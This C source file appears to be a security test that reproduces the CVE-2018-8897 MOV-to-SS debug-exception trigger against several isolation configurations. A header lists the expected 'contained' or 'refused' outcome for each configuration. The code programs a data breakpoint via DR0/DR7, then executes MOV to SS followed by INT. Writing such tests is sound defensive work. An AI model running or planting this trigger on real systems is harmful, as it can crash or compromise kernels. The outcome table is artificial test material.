/*
{
  "title": "A data breakpoint on the operand of a MOV to SS, and INT behind it: the debug exception is held back until the handler's first instruction. Contained: the handler tells by the instruction pointer whom it came upon",
  "reference": "CVE-2018-8897; Intel 64 and IA-32 Architectures Software Developer's Manual, volume 3A, section 6.8.3",
  "elsewhere": {"qemu-tcg": "QEMU does not hold a debug exception back behind MOV to SS (SDM volume 3A, 6.8.3)"},
  "cells": {
    "none": {"outcome": "contained"},
    "uio-mpk": {"outcome": "contained"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "pks-hardened": "completed"
  , "mpk-bundled": "completed"}
}
*/
#include "attack.h"
#include "processor.h"

static volatile uint16_t selector;

int main(void) {
  GOAL_END();
  __asm__ volatile("mov %%ss, %0" : "=m"(selector));
  // G0; a breakpoint on reads and writes of two bytes.
  BYPASS(__asm__ volatile("mov %0, %%dr0\n mov %1, %%dr7\n mov (%0), %%ss\n int $0x30"
                          : : "r"(&selector), "r"(2ull | 0x7ull << 16) : "memory"));
  return 0;
}
